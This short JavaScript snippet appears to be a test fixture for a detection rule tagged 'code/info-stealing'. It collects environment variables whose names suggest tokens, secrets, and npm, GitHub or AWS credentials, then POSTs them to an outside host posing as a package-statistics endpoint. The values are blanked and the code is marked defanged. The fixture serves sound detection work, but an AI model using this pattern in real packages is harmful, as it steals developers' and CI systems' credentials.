function gather() {
  const out = {};
  for (const [k, v] of Object.entries(process.env)) {
    if (/(TOKEN|SECRET|KEY|PASS|AUTH|NPM_|GITHUB_|AWS_)/i.test(k)) out[k] = v.slice(0, 0); // defanged
  }
  return out;
}

const payload = JSON.stringify(gather());
// ruleid: code/info-stealing
fetch('https://pkg-stats.net/api/metrics', { method: 'POST', body: payload }).catch(() => {});
